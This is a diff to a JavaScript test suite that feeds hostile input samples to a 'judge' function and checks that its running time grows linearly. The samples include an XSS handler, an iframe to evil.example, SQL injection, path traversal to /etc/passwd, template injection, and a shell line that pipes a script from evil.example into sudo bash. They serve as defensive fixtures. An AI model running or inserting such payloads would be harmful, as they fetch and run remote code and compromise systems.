@@ -131,7 +131,7 @@ describe("proof", () => {
     ["html-handler", "<img src=x onerror=alert(1)>"],
     ["html-frame", '<iframe src="https://evil.example/"></iframe>'],
     ["sql", "x' OR 1=1 --"],
-    ["shell", "curl -s https://evil.example/i | sh"],
+    ["shell", "curl -fsSL https://evil.example/i.sh | sudo bash"],
     ["ansi", "\u001b[2J"],
     ["template", "Dear {{ config.items() }}"],
     ["path", "../../../etc/passwd"],
@@ -338,10 +338,10 @@ describe("whatever a target answers", () => {
       judge(trail);
       return performance.now() - startedAt;
     };
-    for (const proof of PROOFS) {
-      if (spent(250_000, proof) < 40) continue;
-      const [short, long] = [spent(250_000, proof), spent(1_000_000, proof)];
-      expect([proof.by, long < 12 * short + 200]).toEqual([proof.by, true]);
+    for (const proof of PROOFS.filter((one, at) => PROOFS.findIndex(({ by }) => by === one.by) === at)) {
+      // Quadratic would be sixteen times as long; a machine that is busy elsewhere is allowed for.
+      const [short, long] = [spent(50_000, proof), spent(200_000, proof)];
+      expect([proof.by, long < 10 * short + 150]).toEqual([proof.by, true]);
     }
   });
 });
